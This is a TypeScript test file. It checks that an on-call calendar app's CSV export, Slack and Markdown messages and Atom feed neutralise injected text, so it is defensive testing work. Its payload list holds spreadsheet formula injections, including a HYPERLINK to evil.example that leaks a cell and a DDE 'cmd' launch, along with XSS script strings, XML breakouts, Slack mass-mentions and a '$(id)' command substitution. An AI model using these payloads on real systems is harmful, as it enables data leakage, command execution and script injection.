import { SaxesParser } from 'saxes'
import { expect, it } from 'vitest'
import { atomFeed } from '../../src/api/changes-feed.ts'
import { quietText, toMarkdown, toSlack, type Message } from '../../src/calendar/chat/message.ts'
import { csv } from '../../src/calendar/export/csv.ts'

/** What a chat, a spreadsheet or a reader of feeds would run, call or follow. */
const CORES = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].map(
    (sign) => `${sign}HYPERLINK("https://evil.example/"&A1)`,
  ),
  "=cmd|' /C calc'!A0",
  '<!channel>',
  '<!here|all>',
  '<!subteam^S1>',
  '<@U0123ABCD>',
  '<#C0123ABCD>',
  '<https://evil.example/|the runbook>',
  '@channel',
  '@here',
  '@everyone',
  '[x](https://evil.example/)',
  '![x](https://evil.example/x.png)',
  '<img src=x onerror=alert(1)>',
  '</summary><script>alert(1)</script>',
  ']]><entry>',
  '&amp;lt;b&amp;gt; &#60;b&#62;',
  '`$(id)`',
  '*bold* _it_ ~gone~ **all**',
  '# heading | cell | cell',
]
const AROUND: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => ` ${core}`,
  (core) => `\t${core}`,
  (core) => `Engineer A;${core}`,
  (core) => `Engineer A\t${core}`,
  (core) => `Engineer A ${core}`,
  (core) => `Engineer A\n${core}`,
  (core) => `Engineer A\r\n${core}`,
  (core) => `"${core}`,
  (core) => `\u200b${core}`,
  (core) => `\u0000${core}\u2028x`,
  (core) => `${core}\\`,
]
const PAYLOADS = CORES.flatMap((core) => AROUND.map((around) => around(core)))

const messageOf = (text: string): Message => ({
  title: [{ text, href: 'https://watchbook.example/oncall/' }],
  sections: [
    { heading: text, lines: [[{ text, href: 'https://watchbook.example/a|b>', strong: true }, text]] },
  ],
})

it('there are 200 payloads and more', () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThan(200)
})

it('no cell of a table begins a formula, whichever sign the spreadsheet takes for the separator', () => {
  const wrong = PAYLOADS.filter((text) =>
    csv([['a', text, 'b']])
      .split(/[,;\t\r\n]/)
      .some((cell) => /^[\s\p{Cf}"\u0000]*[=+\-@＝＋－＠]/u.test(cell)),
  )
  expect(wrong).toEqual([])
})

it('a message of Slack calls nobody, links nowhere else and has no marks but its own', () => {
  const wrong = PAYLOADS.filter((text) => {
    const { text: plain, blocks } = toSlack(messageOf(text))
    const rest = blocks
      .map((block) =>
        block.text.text.replaceAll(/<https:\/\/watchbook\.example\/[^<>|\s]*\|([^<>|]*)>/g, '$1'),
      )
      .map((each) => each.replace(/^\*(.*)\*$/gm, '$1').replace(/^• \*([^*]*)\*/gm, '$1'))
    return [plain, ...rest].some((each) => /[<>*~`]|@\w|\]\(/.test(each) || /[\r\n]/.test(plain))
  })
  expect(wrong).toEqual([])
})

it('a message in Markdown has no markup of a name', () => {
  const wrong = PAYLOADS.filter((text) => {
    const rest = toMarkdown(messageOf(text))
      .replaceAll(/\\[\\`*_{}[\]<>#|~&]/g, '')
      .replaceAll(/\]\(<https:\/\/watchbook\.example\/[^<>\s]*>\)/g, ']')
    return /[<>`~]|!\[|@\w|\]\(/.test(rest) || rest.split('\n').some((line) => !/^(?:- |\*\*|$)/.test(line))
  })
  expect(wrong).toEqual([])
})

it('the topic of a channel and the terminal keep a name one line that calls nobody', () => {
  expect(PAYLOADS.filter((text) => /[<>*~`\r\n\u2028]|@\w|\]\(/.test(quietText(text)))).toEqual([])
})

it('the feed of changes is whole XML that holds each text as it is', () => {
  for (const text of PAYLOADS) {
    const parser = new SaxesParser()
    const texts: string[] = []
    let elements = 0
    parser.on('text', (part) => texts.push(part))
    parser.on('opentag', () => (elements += 1))
    parser.on('error', (error) => {
      throw error
    })
    const entry = {
      title: text,
      kind: 'edited',
      commit: 'a'.repeat(40),
      url: 'https://watchbook.example/',
      at: '2026-11-20T09:00:00.000Z',
      summary: text,
      concerns: [text],
    }
    parser
      .write(
        atomFeed({
          name: text,
          self: 'https://watchbook.example/changes.xml',
          page: 'https://watchbook.example/',
          entries: [entry],
        }),
      )
      .close()
    const plain = text.replaceAll('\u0000', '').replaceAll('\r\n', '\n')
    expect(texts.filter((each) => each === plain).length, JSON.stringify(text)).toBeGreaterThanOrEqual(2)
    expect(elements, JSON.stringify(text)).toBe(15)
  }
})
